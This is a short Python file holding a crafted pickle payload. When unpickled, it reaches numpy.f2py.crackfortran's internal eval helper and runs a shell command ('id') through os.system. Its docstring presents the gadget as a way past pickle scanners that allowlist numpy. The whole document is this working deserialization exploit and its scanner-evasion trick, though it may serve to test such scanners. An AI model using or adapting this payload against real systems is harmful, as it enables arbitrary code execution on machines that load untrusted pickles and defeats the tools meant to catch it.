"""numpy.f2py's own `eval`: a package that everybody allows."""

PAYLOAD = b"cnumpy.f2py.crackfortran\nmyeval\n(V__import__('os').system('id')\ntR."
